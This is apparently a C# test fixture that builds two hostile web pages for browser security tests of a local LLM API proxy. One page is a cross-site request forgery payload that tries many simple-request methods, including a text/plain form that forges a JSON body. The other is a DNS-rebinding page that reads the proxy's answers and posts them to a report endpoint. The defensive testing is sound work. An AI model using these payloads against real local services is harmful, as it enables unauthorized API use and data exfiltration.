namespace CodexProxy.Tests.Hosting;

/// <summary>The hostile pages that <see cref="BrowserAttackTests"/> opens in Chromium. Each reports what it tried (or
/// read) to the attacker's own origin once it is done.</summary>
internal static class BrowserAttackPages
{
    /// <summary>How many attempts the cross-site page makes (the names it reports).</summary>
    public const int CrossSiteAttempts = 14;

    /// <summary>How many requests of those reach the proxy: every one, the CORS attempt as its preflight.</summary>
    public const int CrossSiteRequestsThatReachTheProxy = 14;

    /// <summary>The attempt the browser itself stops after the proxy refuses its preflight.</summary>
    public const string PreflightedAttempt = "fetch cors json";

    /// <summary>A page on another origin that tries every request a page can make without the target's consent
    /// (a CORS "simple" request: no-cors fetch with each safelisted Content-Type, forms, beacons, an image, a script),
    /// plus one that needs consent (a JSON POST, which the browser preflights).</summary>
    public static string CrossSite(Uri proxy, string name)
    {
        if (name != "attack")
        {
            return "<!doctype html><title>nothing</title>";
        }

        var target = proxy.GetLeftPart(UriPartial.Authority);
        return $$"""
            <!doctype html>
            <html><body><script>
            const target = "{{target}}";
            const url = target + "/v1/messages";
            const body = JSON.stringify({ model: "claude-sonnet-4-5", max_tokens: 16, messages: [{ role: "user", content: "spend the allowance" }] });
            const tried = [];
            async function attempt(name, action) {
              try { await action(); tried.push(name + ":sent"); } catch (e) { tried.push(name + ":" + e.name); }
            }
            function submitForm(enctype, index) {
              const frame = document.createElement("iframe");
              frame.name = "sink" + index;
              document.body.appendChild(frame);
              const form = document.createElement("form");
              form.method = "POST"; form.action = url; form.enctype = enctype; form.target = frame.name;
              const input = document.createElement("input");
              // text/plain encodes name=value: this pair makes the body a JSON object.
              input.name = body.slice(0, -1) + ',"padding":"'; input.value = '"}';
              form.appendChild(input);
              document.body.appendChild(form);
              form.submit();
            }
            (async () => {
              for (const type of [null, "text/plain", "text/plain;json", "application/x-www-form-urlencoded; x=json", "multipart/form-data; boundary=json"]) {
                await attempt("fetch no-cors " + type, () => fetch(url, { method: "POST", mode: "no-cors",
                  body: type === null ? new Blob([body]) : body, headers: type === null ? {} : { "Content-Type": type } }));
              }
              await attempt("{{PreflightedAttempt}}", () => fetch(url, { method: "POST", body,
                headers: { "Content-Type": "application/json", "x-api-key": "sk-any" } }));
              await attempt("fetch count_tokens", () => fetch(target + "/v1/messages/count_tokens", { method: "POST", mode: "no-cors", body }));
              await attempt("beacon text", () => { if (!navigator.sendBeacon(url, body)) throw new Error("not queued"); });
              await attempt("beacon form", () => { if (!navigator.sendBeacon(url, new URLSearchParams({ q: body }))) throw new Error("not queued"); });
              let index = 0;
              for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
                await attempt("form " + enctype, () => submitForm(enctype, index++));
              }
              await attempt("image", () => new Promise(done => { const image = new Image(); image.onload = image.onerror = done; image.src = target + "/v1/models"; }));
              await attempt("script", () => new Promise(done => { const script = document.createElement("script");
                script.onload = script.onerror = done; script.src = target + "/health"; document.body.appendChild(script); }));
              // Forms and beacons leave in the background.
              await new Promise(done => setTimeout(done, 2000));
              await fetch("/report?page=attack", { method: "POST", body: JSON.stringify(tried) });
            })();
            </script></body></html>
            """;
    }

    /// <summary>A page whose origin is the proxy's host name and port (after DNS rebinding), so the browser lets it
    /// send anything and read every answer. It reports what it read.</summary>
    public static string Rebinding(Uri report) => $$"""
        <!doctype html>
        <html><body><script>
        (async () => {
          const body = JSON.stringify({ model: "claude-sonnet-4-5", max_tokens: 16, messages: [{ role: "user", content: "spend the allowance" }] });
          const results = [];
          for (const [name, path, init] of [
            ["messages", "/v1/messages", { method: "POST", body, headers: { "Content-Type": "application/json", "x-api-key": "sk-any" } }],
            ["models", "/v1/models", {}],
            ["health", "/health", {}]]) {
            try { const answer = await fetch(path, init); results.push(name + ":" + answer.status + ":" + (await answer.text()).slice(0, 300)); }
            catch (e) { results.push(name + ":" + e.name); }
          }
          await fetch("{{report.AbsoluteUri}}", { method: "POST", mode: "no-cors", body: JSON.stringify(results) });
        })();
        </script></body></html>
        """;
}
